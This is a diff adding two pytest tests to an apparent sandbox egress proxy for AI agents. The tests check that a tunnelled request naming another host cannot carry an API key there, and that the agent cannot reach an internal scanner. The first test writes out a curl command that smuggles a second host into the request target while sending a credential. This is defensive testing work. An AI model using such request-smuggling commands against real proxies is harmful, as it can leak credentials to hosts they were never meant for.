@@ -343,3 +343,37 @@ def test_cleanup_removes_what_a_killed_bottle_left(manifest, tmp_path):
     assert result.returncode == 0, result.stderr
     assert f"removing container {bottle_id}-agent" in result.stdout.decode()
     assert leftovers(bottle_id) == []
+
+
+def test_an_absolute_form_target_in_a_tunnel_reaches_no_other_host_and_no_credential(manifest, run_bottle, upstream):
+    """Inside a tunnel to api.anthropic.com, `GET https://other.test/…` names another host: a
+    server routing on the target would serve it the real key. bottle answers 421."""
+    rules = AGENT_RULES + """
+  routes:
+    - host: api.anthropic.com
+      auth: {scheme: header, header: x-api-key, token_ref: BOTTLE_TEST_API_KEY}
+"""
+    marker = f"absolute-{time.time_ns()}"
+    script = ('curl -sS -o /tmp/body -w "%{http_code}" --request-target "https://other.test/' + marker + '" '
+              '-H "x-api-key: $BOTTLE_TEST_API_KEY" https://api.anthropic.com/; echo; cat /tmp/body')
+    run = run_bottle(manifest(rules), "sh", "-c", script, env={"BOTTLE_TEST_API_KEY": REAL_TOKEN})
+    assert run.returncode == 0, run.stderr
+    status, body = run.stdout.splitlines()[:2]
+    assert status == "421"
+    assert body.startswith("bottle: blocked: misdirected request: the request names other.test:443")
+    assert not [r for r in upstream.requests() if marker in r["path"]]
+    assert not [r for r in upstream.requests() if r["headers"].get("x-api-key") == REAL_TOKEN
+                and r.get("time", 0) > time.time() - 60 and marker in json.dumps(r)]
+    (line,) = [r for r in run.requests() if r["status"] == 421]
+    assert (line["host"], line["decision"]) == ("other.test", "block")
+
+
+def test_in_discover_mode_the_agent_still_cannot_reach_the_scanner(manifest, run_bottle):
+    rules = "egress:\n  mode: discover\n  allow: []\n"
+    script = ("curl -sS -o /dev/null -w '%{http_code}\\n' -X POST -d '{}' http://pipelock:9090/api/v1/scan; "
+              "curl -sS -o /dev/null -w '%{http_connect}\\n' https://pipelock:9090/api/v1/scan; true")
+    run = run_bottle(manifest(rules), "sh", "-c", script)
+    assert run.returncode == 0, run.stderr
+    assert run.stdout.split()[:2] == ["403", "403"]
+    reasons = {line["reason"] for line in run.requests() if line["host"] == "pipelock"}
+    assert reasons == {"the scanner is not a destination"}
